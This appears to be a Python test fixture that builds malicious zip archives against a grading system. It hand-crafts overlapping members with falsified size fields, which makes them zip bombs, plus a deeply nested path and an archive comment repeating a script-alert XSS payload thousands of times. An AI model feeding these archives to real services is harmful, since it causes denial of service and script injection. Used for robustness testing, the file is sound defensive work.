"""Zip files that unfold: overlapping members, thousands of large ones, endless comments and names.

mechanism: members that share their bytes, lie about sizes, and unpack to hundreds of gigabytes
success: the grader unpacks them all, runs out of memory, or loses the honest members
"""

import struct
import zipfile
import zlib
from pathlib import Path

MEMBERS = 12


def make(folder: Path, class_folder: Path) -> list[Path]:
    folder.rmdir()
    place = class_folder.parent
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = b'{"cells": [' + b'"\\u0000\\u0001\\u0002' * 60_000
    data = packed.compress(content) + packed.flush()
    head = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0x21, 0, len(data), len(content), 0, 0)
    directory = b""
    for number in range(MEMBERS):
        name = f"bomb{number}/04_losses/losses.ipynb".encode()
        sizes = (zlib.crc32(content), len(data), len(content) * (1 + number % 3), len(name))
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0x21, *sizes, 0, 0, 0, 0, 0, 0
        )
        directory += name
    end = struct.pack(
        "<4s4H2LH", b"PK\5\6", 0, 0, MEMBERS, MEMBERS, len(directory), len(head + data), 0
    )
    (place / "overlapping.zip").write_bytes(head + data + directory + end)
    (place / "claims.zip").write_bytes(
        head + data + end[:12] + struct.pack("<LLH", 2**32 - 1, 2**31, 65535)
    )
    with zipfile.ZipFile(place / "many.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(MEMBERS):
            archive.writestr(f"many{number}/04_losses/losses.py", b"mse = 1\n" * 5_000)
        archive.writestr("deep/" * 180 + "04_losses/losses.py", b"mse = 1\n")
        archive.comment = b"<script>alert(1)</script>" * 2600
    return [class_folder, *(place / f"{name}.zip" for name in ("overlapping", "many"))]
